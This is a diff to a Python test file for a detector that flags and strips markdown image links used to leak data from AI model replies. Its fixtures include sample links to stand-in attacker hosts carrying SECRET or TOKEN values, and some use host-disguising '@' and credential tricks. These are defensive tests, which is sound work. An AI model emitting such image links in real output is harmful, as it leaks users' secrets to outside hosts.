@@ -13,11 +13,11 @@ def one(spark, text, column):
 
 
 EXFIL = [
-    ("The capital of France is Paris.", []),
-    ("![confirm](https://attacker.example.com/log?data=SECRET)", ["attacker.example.com"]),
-    ("![inline](data:image/png;base64,iVBORw0KGgo)", []),
-    ("![diagram](/static/diagram.png)", []),
-    ("![logo](https://cdn.example.com/logo.png)", []),
+    ("Nothing to see in this reply.", []),
+    ("Done ![ok](https://bad.example.org/p?q=TOKEN) bye", ["bad.example.org"]),
+    ("![pixel](data:image/gif;base64,R0lGODlh)", []),
+    ("![plan](/img/plan.svg)", []),
+    ("![ours](https://cdn.example.com/a.webp)", []),
     ("![a](HTTPS://CDN.Example.com:8443/logo.png)", []),
     ("![a](http://user:pw@Evil.example.com:80/x)", ["evil.example.com"]),
     ("![a](https://cdn.example.com@evil.example.com/x)", ["evil.example.com"]),
@@ -42,9 +42,9 @@ def test_exfiltration(spark, text, hosts):
 
 
 def test_strip_keeps_the_rest(spark):
-    text = "Ticket: login issue. ![x](https://evil.example.com/x?d=1) Thanks! ![k](/keep.png)"
+    text = "Before ![x](https://evil.example.com/x?d=1) between ![k](/keep.png) after"
     stripped = one(spark, text, exfiltration.stripped(F.col("t")))
-    assert stripped == f"Ticket: login issue. {exfiltration.MARKER} Thanks! ![k](/keep.png)"
+    assert stripped == f"Before {exfiltration.MARKER} between ![k](/keep.png) after"
 
 
 def test_exfiltration_skips_empty_output(spark):
